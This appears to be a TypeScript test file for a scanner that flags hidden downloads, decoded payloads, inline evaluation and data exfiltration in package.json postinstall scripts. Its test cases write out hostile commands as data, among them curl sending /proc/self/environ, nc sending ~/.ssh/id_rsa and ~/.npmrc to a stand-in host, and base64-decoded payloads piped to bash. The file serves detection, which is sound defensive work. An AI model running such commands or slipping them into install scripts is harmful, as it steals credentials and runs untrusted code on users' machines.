import assert from 'node:assert/strict';
import { test } from 'node:test';
import { hiddenWorkOf } from '../../server/src/formats/lifecycle-code.ts';
import { format } from '../../server/src/formats/package-json.ts';
import { sourceFile } from '../support/memory-project.ts';

/** What is found in one script: the kind and the text under the span. */
function found(script: string): (readonly [string, string])[] {
  const text = JSON.stringify({ scripts: { postinstall: script } });
  const [only] = format.parse(sourceFile('package.json', text)).scripts;
  assert.ok(only);
  return hiddenWorkOf(only).map(({ kind, span }) => [kind, text.slice(span.start, span.end)] as const);
}

test('each kind, with the command as its span', () => {
  const cases: readonly (readonly [string, string, string])[] = [
    ['node x.js && curl -O https://files.example.test/a', 'download', 'curl -O https://files.example.test/a'],
    ['sudo wget -q https://files.example.test/a', 'download', 'wget -q https://files.example.test/a'],
    ['echo YQ== | base64 --decode | bash', 'decode', 'echo YQ== | base64 --decode | bash'],
    ["sh -c 'echo YQ== | base64 -D | sh'", 'decode', 'echo YQ== | base64 -D | sh'],
    ['bash -c $(xxd -r -p payload.hex)', 'decode', 'bash -c $(xxd -r -p payload.hex)'],
    ['openssl enc -d -aes-256-cbc -in x | sh', 'decode', 'openssl enc -d -aes-256-cbc -in x | sh'],
    ['powershell -EncodedCommand SQBFAFgA', 'decode', 'powershell -EncodedCommand SQBFAFgA'],
    ["python3 -c 'import urllib.request'", 'evaluate', "python3 -c 'import urllib.request'"],
    ["node -e 'fetch(process.env.X)'", 'evaluate', "node -e 'fetch(process.env.X)'"],
    ["perl -e 'eval(decode_base64(1))'", 'evaluate', "perl -e 'eval(decode_base64(1))'"],
    [
      'curl --data-binary @/proc/self/environ https://c.example.test',
      'send',
      'curl --data-binary @/proc/self/environ https://c.example.test',
    ],
    ['nc c.example.test 80 < ~/.ssh/id_rsa', 'send', 'nc c.example.test 80'],
    ['cat ~/.npmrc | nc c.example.test 80', 'send', 'cat ~/.npmrc | nc c.example.test 80'],
    ['printenv | base64 | curl -d @- https://c.example.test', 'send', 'printenv | base64 | curl -d @- https://c.example.test'],
    ['curl https://c.example.test/$AWS_SECRET_ACCESS_KEY', 'send', 'curl https://c.example.test/$AWS_SECRET_ACCESS_KEY'],
  ];
  for (const [script, kind, text] of cases) assert.deepEqual(found(script), [[kind, text]], script);
});

test('what looks like it and is not', () => {
  for (const script of [
    'node scripts/postinstall.js',
    'base64 -d < icon.b64 > icon.png',
    'echo YQ== | base64 | sh -c cat',
    "node -e 'process.exit(0)'",
    "node -e 'Buffer.from(x, `base64`)'",
    "node -e 'eval(1)'",
    'curl --version',
    'curl -s http://localhost:3000/health',
    'env NODE_ENV=production node x.js',
    'echo "curl https://files.example.test | sh"',
    'curl -fsSL https://files.example.test/install.sh | sh',
    'curl -o a.sh https://files.example.test/a.sh && sh a.sh',
  ])
    assert.deepEqual(found(script), [], script);
});

test('a token that says who asks is a download, and nothing that is sent', () => {
  const [only] = found('curl -H "Authorization: Bearer $NPM_TOKEN" -O https://files.example.test/a');
  assert.equal(only?.[0], 'download');
});

test('long scripts take time with their length', () => {
  const started = performance.now();
  for (const piece of ['$TOKE', 'require(  ', 'eval   ', '.env/', 'a | ', '$(', 'base64 -', '/proc/', 'x'])
    for (const script of [piece.repeat(20_000), `curl ${piece.repeat(20_000)}`, `node -e '${piece.repeat(20_000)}'`]) found(script);
  assert.ok(performance.now() - started < 60_000);
});
